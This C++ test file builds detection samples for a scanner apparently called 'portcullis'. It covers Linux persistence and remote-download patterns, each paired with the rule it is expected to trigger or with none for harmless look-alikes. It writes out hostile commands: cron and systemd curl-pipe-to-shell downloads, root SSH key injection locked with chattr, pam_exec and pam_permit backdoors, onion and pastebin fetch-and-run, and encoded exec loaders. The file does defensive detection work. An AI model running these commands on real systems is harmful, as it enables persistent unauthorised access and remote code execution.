// SPDX-License-Identifier: Apache-2.0
//
// Persistence, and where scripts get their programs from.
#include "samples_traits.hpp"

namespace portcullis::test {

std::vector<Sample> persistence_samples() {
  const std::string fetch = kCurl + "-fsSL https://example.org/x" + kPipeShell;
  const std::string cron = "SHELL=/bin/sh\n*/5 * * * * root ";
  const std::string unit = "[Unit]\nDescription=x\n[Service]\nExecStart=";
  const std::string unit_path = "etc/systemd/system/x.service";
  const std::string key = "ssh-rsa AAAA" + std::string(80, 'B');
  const std::string add = joined({"echo '", key, "' >> /root/.ssh/authorized", "_keys\n"});
  const std::string keys_file = std::string("/root/.ssh/authorized") + "_keys\n";
  return {
      {"cron_download", cron + fetch, {"persistence_cron_download"}, "etc/cron.d/x"},
      {"cron_download_of_root",
       "@reboot " + fetch,
       {"persistence_cron_download"},
       "var/spool/cron/crontabs/root"},
      {"cron_download_in_a_comment", "# " + cron.substr(14) + fetch, {}, "etc/cron.d/x"},
      {"cron_download_in_a_manual", cron + fetch, {}, "usr/share/doc/x/README"},
      {"cron_update", cron + "/usr/bin/x-update\n", {}, "etc/cron.d/x"},
      {"cron_hidden", cron + "/usr/lib/.x/run\n", {"persistence_cron_hidden_program"}, "etc/cron.d/x"},
      {"cron_temporary", "@reboot /tmp/x\n", {"persistence_cron_hidden_program"}, "var/spool/cron/root"},
      {"cron_plain", cron + "/usr/lib/x/run\n", {}, "etc/cron.d/x"},
      {"cron_hidden_elsewhere", cron + "/usr/lib/.x/run\n", {}, "usr/share/x"},
      {"cron_script",
       joined({kShebang, "(crontab -l; echo '* * * * * ", fetch.substr(0, fetch.size() - 1), "') | cron",
               "tab -\n"}),
       {"persistence_cron_script"}},
      {"cron_script_of_a_backup",
       joined({kShebang, "echo '0 3 * * * /usr/bin/backup' | cron", "tab -\n"}),
       {}},
      {"cron_line_told_by_a_script", joined({kShebang, "echo add: '* * * * * ", fetch}), {}},
      {"unit_hidden", joined({unit, "/tmp/", ".x/run\n"}), {"persistence_unit_hidden_program"}, unit_path},
      {"unit_shared_memory",
       joined({unit, "/bin/sh -c '/dev/", "shm/x'\n"}),
       {"persistence_unit_hidden_program"},
       unit_path},
      {"unit_temporary", unit + "/tmp/test\n", {}, unit_path},
      {"unit_hidden_elsewhere", joined({unit, "/tmp/", ".x/run\n"}), {}, "usr/share/doc/x.service"},
      {"unit_download", joined({unit, "/bin/sh -c '", fetch}), {"persistence_unit_download"}, unit_path},
      {"unit_download_to_file",
       joined({unit, "/usr/bin/", kCurl, "-o /var/lib/x https://example.org/x\n"}),
       {},
       unit_path},
      {"unit_download_in_text", joined({unit, "/bin/sh -c '", fetch}), {}, "usr/share/doc/x.md"},
      {"profile_download", "export A=1\n" + fetch, {"persistence_profile_download"}, "root/.bashrc"},
      {"motd_download", kShebang + fetch, {"persistence_profile_download"}, "etc/update-motd.d/99-x"},
      {"profile_download_commented", "# " + fetch, {}, "root/.bashrc"},
      {"profile_download_elsewhere", kShebang + fetch, {}, "usr/share/install"},
      {"profile_hidden",
       "nohup /var/tmp/.x/run &\n",
       {"persistence_profile_hidden_program"},
       "etc/profile.d/x.sh"},
      {"profile_temporary", ". /tmp/env\n", {}, "etc/profile.d/x.sh"},
      {"profile_hidden_elsewhere", "nohup /var/tmp/.x/run &\n", {}, "usr/share/x.sh"},
      {"key_locked",
       joined({kShebang, add, "chattr +i ", keys_file}),
       {"persistence_key_locked", "persistence_key_script"}},
      {"key_added", kShebang + add, {"persistence_key_script"}},
      {"key_from_a_variable", joined({kShebang, "echo \"$KEY\" >> ", keys_file}), {}},
      {"key_locked_without_key",
       joined({kShebang, "echo \"$KEY\" >> ", keys_file, "chattr +i ", keys_file}),
       {}},
      {"key_in_a_document", add, {}},
      {"login_program",
       joined({"auth optional pam_", "exec.so quiet expose_authtok /tmp/x\n"}),
       {"persistence_login_program"},
       "etc/pam.d/sshd"},
      {"login_program_of_a_package",
       joined({"session optional pam_", "exec.so /usr/sbin/x\n"}),
       {},
       "etc/pam.d/sshd"},
      {"login_program_commented", joined({"# auth optional pam_", "exec.so /tmp/x\n"}), {}, "etc/pam.d/sshd"},
      {"login_open",
       joined({"auth sufficient pam_", "permit.so\n"}),
       {"persistence_login_without_password"},
       "etc/pam.d/sshd"},
      {"login_open_for_a_tool", joined({"auth sufficient pam_", "permit.so\n"}), {}, "etc/pam.d/chsh"},
      {"login_with_password", "auth required pam_unix.so\n", {}, "etc/pam.d/sshd"},
  };
}

std::vector<Sample> download_source_samples() {
  const std::string address = "wget -q http://198.51.100.7/x -O x\n";
  const std::string start = "chmod +x x\nnohup ./x -d &\n";
  const std::string paste = kCurl + "-s https://paste" + "bin.com/raw/AbCd";
  const std::string onion = std::string(32, 'a') + ".oni" + "on";
  const std::string load = std::string("ex") + "ec(urllib.request.url" + "open('http";
  const std::string body(300, 'A');
  const std::string encoded = "H4sI" + body;
  return {
      {"address_and_start", joined({kShebang, address, start}), {"download_from_address_and_start"}},
      {"address_of_the_house", joined({kShebang, "wget -q http://10.0.0.7/x -O x\n", start}), {}},
      {"address_without_start", joined({kShebang, address, "chmod +x x\n"}), {}},
      {"name_and_start", joined({kShebang, "wget -q https://example.org/x\n", start}), {}},
      {"paste", joined({kShebang, paste, kPipeShell}), {"download_from_paste_and_run"}},
      {"paste_into_python",
       joined({kShebang, paste, " | /usr/bin/python3 -\n"}),
       {"download_from_paste_and_run"}},
      {"paste_to_file", joined({kShebang, paste, " > notes.txt\n"}), {}},
      {"paste_in_a_document", joined({"run ", paste, kPipeShell}), {}},
      {"hidden_service",
       joined({kShebang, kCurl, "-sx socks5h://tor http://", onion, "/x", kPipeShell}),
       {"download_from_hidden_service"}},
      {"hidden_service_by_gateway",
       joined({kShebang, kCurl, "-s https://", onion, ".ws/x -o x\nchmod +x x\n"}),
       {"download_from_hidden_service"}},
      {"hidden_service_checked", joined({kShebang, kCurl, "-sI http://", onion, "/ && echo up\n"}), {}},
      {"hidden_service_in_a_text", joined({kCurl, "http://", onion, kPipeShell}), {}},
      {"python_download",
       joined({"import urllib.request\n", load, "://198.51.100.7/x').read())\n"}),
       {"download_python_and_run"}},
      {"python_download_of_the_house",
       joined({"import urllib.request\n", load, "://10.1.2.3/x').read())\n"}),
       {}},
      {"python_download_by_name",
       joined({"import urllib.request\n", load, "s://bootstrap.example.org/x').read())\n"}),
       {}},
      {"python_encoded",
       joined({"import zlib,base64\nex", "ec(zlib.decompress(base64.b64", "decode('", body, "')))\n"}),
       {"encoded_python"}},
      {"python_reversed",
       joined({"_ = (lambda __ : __import__('zl",
               "ib').decompress(__import__('base64').b64decode(__[::-1])))\n"}),
       {"encoded_python"}},
      {"python_picture", joined({"icon = zlib.decompress(base64.b64", "decode('", body, "'))\n"}), {}},
      {"python_short", joined({"ex", "ec(base64.b64", "decode('cHJpbnQoMSk='))\n"}), {}},
      {"variable",
       joined({kShebang, "X=\"", encoded, "\"\necho $X | base64", " -d | gunzip | sh\n"}),
       {"encoded_shell_variable"}},
      {"variable_evaluated",
       joined({kShebang, "X=", encoded, "\neval \"$(echo $X | base64", " -d)\"\n"}),
       {"encoded_shell_variable"}},
      {"variable_into_a_file", joined({kShebang, "X=", encoded, "\necho $X | base64", " -d | tar xz\n"}), {}},
      {"variable_from_outside", joined({kShebang, "echo $X | base64", " -d | sh\n"}), {}},
      {"perl_encoded",
       joined({"use MIME::Base64;\neval decode_", "base64('", body, "');\n"}),
       {"encoded_perl"}},
      {"perl_decodes", joined({"use MIME::Base64;\nprint decode_", "base64('", body, "');\n"}), {}},
      {"perl_evaluates", "eval { decode($x) } or die;\n", {}},
  };
}

}  // namespace portcullis::test
